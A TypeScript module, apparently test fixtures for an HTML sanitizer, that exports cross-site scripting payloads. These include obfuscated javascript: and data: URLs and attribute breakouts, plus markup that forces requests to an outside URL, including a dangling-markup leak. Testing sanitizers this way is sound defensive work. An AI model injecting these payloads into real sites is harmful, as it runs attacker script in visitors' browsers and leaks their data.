import { cross } from './cross.ts';

const addresses = cross(
  ['§', '<a href="§">x</a>', '<iframe src="§"></iframe>'],
  [
    'javascript:{js}',
    'JaVaScRiPt:{js}',
    'java\tscript:{js}',
    'java\nscript:{js}',
    '\u0001javascript:{js}',
    ' javascript:{js}',
    'javascript&colon;{js}',
    'javascript&#58;{js}',
    'javascript://%0a{js}',
    'javascript:/*--></title>*/{js}',
    'vbscript:{js}',
    'data:text/html,<script>parent.{js}</script>',
    'data:text/html;base64,{base64}',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>',
    'http://127.0.0.1/"onmouseover="{js}',
    "http://127.0.0.1/'><script>{js}</script>",
  ],
);

/** No script, but a request to somebody else. */
const loads = [
  '<img src={url}.png>',
  '<img srcset="{url}.png 1x">',
  '<picture><source srcset={url}.png><img></picture>',
  '<video poster={url}.png></video>',
  '<video src={url}.mp4 autoplay></video>',
  '<audio src={url}.mp3 autoplay></audio>',
  '<video><track default src={url}.vtt></video>',
  '<input type=image src={url}.png>',
  '<table background={url}.png><tr><td>x</table>',
  '<link rel=stylesheet href={url}.css>',
  '<link rel=preconnect href={url}>',
  '<link rel=dns-prefetch href={url}>',
  '<link rel=prefetch href={url}>',
  '<link rel=icon href={url}.ico>',
  '<link rel=manifest href={url}.json>',
  '<meta http-equiv=refresh content="0;url={url}">',
  '<base href={url}/><img src=a.png>',
  '<iframe src={url}></iframe>',
  '<object data={url}></object>',
  '<embed src={url}>',
  '<frameset><frame src={url}></frameset>',
  '<form action={url}><button autofocus>x</button></form>',
  '<a href={url} ping={url}>x</a>',
  '<img src="{url}.png?',
];

export const addressPayloads = { addresses, loads };
